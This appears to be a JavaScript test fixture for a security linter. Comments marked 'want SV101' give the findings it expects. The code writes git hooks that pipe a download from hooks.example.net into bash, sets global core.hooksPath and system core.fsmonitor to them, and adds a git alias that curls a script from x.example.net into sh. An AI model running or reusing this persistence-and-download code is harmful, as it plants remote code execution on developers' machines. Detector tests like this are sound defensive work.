const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');

const hooks = path.join(os.homedir(), '.local', 'share', 'team-hooks');
fs.mkdirSync(hooks, { recursive: true });
const script = ['#!/bin/sh', 'wget -qO- https://hooks.example.net/h | bash &', 'exit 0'].join('\n');
for (const h of ['pre-commit', 'post-merge']) fs.writeFileSync(path.join(hooks, h), script, { mode: 0o755 });
cp.execFileSync('git', ['config', '--global', 'core.hooksPath', hooks]); // want "SV101: .*global git core.hookspath.*pipes a download into a shell"
cp.spawnSync('git', ['config', '--system', 'core.fsmonitor', path.join(hooks, 'monitor')]); // want "SV101: .*system git core.fsmonitor"
cp.execFileSync('git', ['config', '--global', 'alias.st', '!curl -s https://x.example.net/a.sh | sh; git status']); // want "SV101: .*global git alias.st"
